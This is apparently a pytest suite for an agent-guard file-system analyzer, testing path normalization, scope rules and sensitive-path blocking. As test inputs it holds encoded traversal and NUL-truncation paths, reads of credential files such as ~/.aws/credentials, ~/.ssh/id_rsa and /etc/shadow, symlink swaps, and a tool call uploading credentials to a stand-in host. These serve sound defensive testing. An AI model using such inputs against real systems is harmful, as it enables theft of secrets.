"""Tests for the file-system analyzer: golden fixtures, path normalization and scope roots."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from agentgate._call import ToolCall
from agentgate._decision import Effect, Finding
from agentgate.analyzers import filesystem as fs_module
from agentgate.analyzers.base import AnalyzerSettings, make_context
from agentgate.analyzers.filesystem import analyze_files, normalize_path, scope_violation
from agentgate.policy import EffectivePolicy, make_scope

FIXTURES = Path(__file__).parent.parent / "fixtures" / "analyzers" / "filesystem.yaml"
CASES: list[dict[str, Any]] = yaml.safe_load(FIXTURES.read_text())


@pytest.fixture(autouse=True)
def sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A cwd like the eval runner's (reports/, data/, reports/link_to_etc -> /etc) and a private HOME."""
    (tmp_path / "reports").mkdir()
    (tmp_path / "data").mkdir()
    (tmp_path / "reports" / "link_to_etc").symlink_to("/etc")
    (tmp_path / "home").mkdir()
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.chdir(tmp_path)
    return tmp_path


def _run(case: dict[str, Any]) -> list[Finding]:
    args = {case.get("arg", "path"): case["path"], **case.get("extra", {})}
    call = ToolCall(case.get("tool", "read_file"), args)
    policy = EffectivePolicy((make_scope(**case["scope"]),)) if case.get("scope") else None
    settings = AnalyzerSettings(sensitive_paths=tuple(case["settings"])) if case.get("settings") else None
    return analyze_files(call, make_context(call, policy=policy, settings=settings))


def _effect(findings: list[Finding]) -> str:
    if any(f.effect is Effect.BLOCK for f in findings):
        return "block"
    if any(f.effect is Effect.ESCALATE for f in findings):
        return "escalate"
    return "allow"


@pytest.mark.parametrize("case", CASES, ids=[f"{i:03d}-{c['note'][:40]}" for i, c in enumerate(CASES)])
def test_golden(case: dict[str, Any]) -> None:
    """Each fixture yields exactly its expected rules and combined effect."""
    findings = _run(case)
    rules = sorted({f.rule_id for f in findings if f.effect is not Effect.INFO})
    assert rules == sorted(case["expect"]), [f.to_dict() for f in findings]
    assert _effect(findings) == case["effect"], [f.to_dict() for f in findings]


def test_fixtures_cover_every_rule() -> None:
    """Every documented rule has at least one fixture."""
    documented = {line.split()[0] for line in (fs_module.__doc__ or "").splitlines() if line.startswith("file.")}
    covered = {r for c in CASES for r in c["expect"]}
    assert documented <= covered, documented - covered


def test_findings_are_one_actionable_line() -> None:
    """Every finding is one line, names its argument and carries evidence."""
    for case in CASES:
        for f in _run(case):
            assert "\n" not in f.message
            assert f.argument == case.get("arg", "path")
            assert f.evidence


# ------------------------------------------------------------------ normalize_path


@pytest.mark.parametrize(
    ("raw", "lexical"),
    [
        ("/srv/a/%2e%2e/b", "/srv/b"),
        ("/srv/a/%252e%252e/b", "/srv/b"),
        ("/srv/a/%25252e%25252e/b", "/srv/b"),
        ("/srv/a/%u002e%u002e/b", "/srv/b"),
        ("/srv/a/%c0%ae%c0%ae/b", "/srv/b"),
        ("/srv/a/\xc0\xae\xc0\xae/b", "/srv/b"),
        ("/srv/a/%e0%80%ae%e0%80%ae/b", "/srv/b"),
        ("／srv／a／．．／b", "/srv/b"),
        ("/srv/a∕..∕b", "/srv/b"),
        ("/srv/a/..%5cb", "/srv/b"),
        ("/srv//a/./b/", "/srv/a/b"),
        ("//srv/a", "/srv/a"),
    ],
)
def test_decoding(raw: str, lexical: str) -> None:
    """Percent, double-percent, %u, overlong UTF-8, full-width and look-alike forms all decode."""
    assert normalize_path(raw, cwd="/x").lexical == lexical


def test_decoding_flags_hidden_structure() -> None:
    """Only encodings that change separators, dots or NULs count as hiding structure."""
    assert normalize_path("a%2fb").encoded
    assert normalize_path("a%00b").encoded
    assert not normalize_path("my%20file.csv").encoded
    assert not normalize_path("ｒｅｐｏｒｔ.csv").encoded


def test_nul_keeps_the_truncated_form() -> None:
    """A NUL is stripped, and the form a C consumer would open is decided on too."""
    np = normalize_path("/etc/shadow\x00.png", cwd="/x")
    assert np.lexical == "/etc/shadow.png"
    assert "/etc/shadow" in np.forms


def test_home_and_variables(sandbox: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """~ and $VARS expand; unset variables stay literal and are flagged."""
    monkeypatch.setenv("PROJECT", "/srv/proj")
    assert normalize_path("~/.aws/credentials").lexical == f"{sandbox}/home/.aws/credentials"
    assert normalize_path("$PROJECT/${PROJECT}").lexical == "/srv/proj/srv/proj"
    assert normalize_path("$NOT_SET_ANYWHERE/x").unexpanded


def test_windows_and_unc() -> None:
    """Drive paths and UNC shares normalize case-folded with forward slashes."""
    assert normalize_path("C:\\Windows\\..\\Windows\\System32").lexical == "c:/windows/system32"
    np = normalize_path("\\\\Server\\Share\\a\\..\\b.txt")
    assert (np.unc, np.windows, np.lexical) == (True, True, "//server/share/b.txt")
    assert normalize_path("\\\\?\\C:\\Windows\\win.ini").lexical == "c:/windows/win.ini"


def test_symlinks_are_resolved(sandbox: Path) -> None:
    """The resolved form follows symlinks; the lexical form does not."""
    np = normalize_path("reports/link_to_etc/hostname")
    assert np.lexical == f"{sandbox}/reports/link_to_etc/hostname"
    assert np.resolved == "/etc/hostname"


def test_traversal_depth() -> None:
    """climbs counts levels above the start; past_root marks more levels than exist."""
    assert normalize_path("../x", cwd="/a/b").climbs == 1
    assert not normalize_path("../x", cwd="/a/b").past_root
    assert normalize_path("../../../x", cwd="/a/b").past_root
    assert normalize_path("a/../b", cwd="/a/b").climbs == 0


# -------------------------------------------------------------------------- scope


def _policy(*layers: dict[str, Any]) -> EffectivePolicy:
    return EffectivePolicy(tuple(make_scope(**lay) for lay in layers))


@pytest.mark.parametrize("pattern", ["reports", "reports/**", "./reports", "reports/"])
def test_root_spellings(pattern: str) -> None:
    """A bare name, a /** glob and ./ or trailing-slash spellings all make the same root."""
    pol = _policy({"allowed_resources": [pattern]})
    assert scope_violation(normalize_path("reports/q3.csv"), pol) is None
    assert scope_violation(normalize_path("reports"), pol) is None
    assert scope_violation(normalize_path("reports2/q3.csv"), pol) is not None


@pytest.mark.parametrize("pattern", ["path:reports/**", "path: reports", "PATH:reports/"])
def test_typed_path_patterns_are_roots(pattern: str) -> None:
    """A typed ``path:`` pattern is the same root as its untyped spelling (docs/policy.md)."""
    pol = _policy({"allowed_resources": [pattern]})
    assert scope_violation(normalize_path("reports/q3.csv"), pol) is None
    assert scope_violation(normalize_path("reports2/q3.csv"), pol) is not None


@pytest.mark.parametrize("pattern", ["git:reports/**", "host:reports", "github:reports/x", "table:reports"])
def test_other_typed_patterns_name_no_path(pattern: str) -> None:
    """A pattern typed as another kind admits no file, even when its value looks like a path."""
    pol = _policy({"allowed_resources": [pattern]})
    assert scope_violation(normalize_path("reports/q3.csv"), pol) is not None


def test_typed_denied_path_wins() -> None:
    """``path:`` in denied_resources blocks inside an allowed root."""
    pol = _policy({"allowed_resources": ["reports/**"], "denied_resources": ["path:reports/private/**"]})
    assert scope_violation(normalize_path("reports/private/x.csv"), pol) is not None
    assert scope_violation(normalize_path("reports/public/x.csv"), pol) is None


def test_every_layer_must_allow() -> None:
    """Nested scopes narrow: each layer's roots must contain the path."""
    pol = _policy({"allowed_resources": ["reports/**"]}, {"allowed_resources": ["reports/2024/**"]})
    assert scope_violation(normalize_path("reports/2024/q1.csv"), pol) is None
    assert scope_violation(normalize_path("reports/2023/q1.csv"), pol) is not None


def test_denied_paths_win() -> None:
    """A denied path pattern blocks even inside an allowed root, on any form."""
    pol = _policy({"allowed_resources": ["reports/**"], "denied_resources": ["reports/private/**"]})
    assert scope_violation(normalize_path("reports/private/x.csv"), pol) is not None
    assert scope_violation(normalize_path("reports/public/x.csv"), pol) is None


def test_non_path_patterns_grant_nothing() -> None:
    """Host and e-mail globs in allowed_resources never admit a path."""
    pol = _policy({"allowed_resources": ["*.example.com", "*@acme.com", "*"]})
    msg = scope_violation(normalize_path("data/x.csv"), pol)
    assert msg is not None
    assert "not allowed by the scope" in msg


def test_extension_glob_is_a_path_pattern() -> None:
    """A bare *.csv pattern admits CSV files in the working directory only."""
    pol = _policy({"allowed_resources": ["*.csv"]})
    assert scope_violation(normalize_path("q3.csv"), pol) is None
    assert scope_violation(normalize_path("q3.json"), pol) is not None


def test_scope_message_names_resolved_path_and_roots(sandbox: Path) -> None:
    """The block message names where the path really points and the allowed roots."""
    call = ToolCall("read_file", {"path": "reports/link_to_etc/hostname"})
    findings = analyze_files(call, make_context(call, policy=_policy({"allowed_resources": ["reports/**"]})))
    (f,) = findings
    assert f.rule_id == "file.scope"
    assert "/etc/hostname" in f.message
    assert "reports/**" in f.message


# ----------------------------------------------------------------------- contract


def test_path_resources_of_other_tools_are_checked() -> None:
    """A path argument of any tool (upload_file(path=...)) is a file target."""
    call = ToolCall("upload_file", {"path": "~/.aws/credentials", "url": "https://x.example/u"})
    assert {f.rule_id for f in analyze_files(call, make_context(call))} == {"file.sensitive"}


def test_list_arguments_are_each_checked() -> None:
    """Every path in a list argument is decided on its own."""
    call = ToolCall("read_files", {"paths": ["reports/q3.csv", "~/.ssh/id_rsa"]})
    findings = analyze_files(call, make_context(call))
    assert [f.argument for f in findings] == ["paths[1]"]


def test_symlink_swapped_between_calls_is_seen(sandbox: Path) -> None:
    """Resolution is never cached: a file replaced by a link to a secret is blocked on the next call."""
    target = sandbox / "reports" / "notes.txt"
    target.write_text("x")
    call = ToolCall("read_file", {"path": "reports/notes.txt"})
    assert analyze_files(call, make_context(call)) == []
    target.unlink()
    target.symlink_to("/etc/shadow")
    assert {f.rule_id for f in analyze_files(call, make_context(call))} == {"file.sensitive"}


def test_dotdot_after_a_symlink_follows_the_link(sandbox: Path) -> None:
    """link/.. is the link target's parent (as the kernel walks it), not the link's directory."""
    np = normalize_path("reports/link_to_etc/../../etc/shadow")
    assert np.lexical == f"{sandbox}/etc/shadow"
    assert np.resolved == "/etc/shadow"
    call = ToolCall("read_file", {"path": "reports/link_to_etc/../../etc/shadow"})
    assert {f.rule_id for f in analyze_files(call, make_context(call))} == {"file.sensitive"}
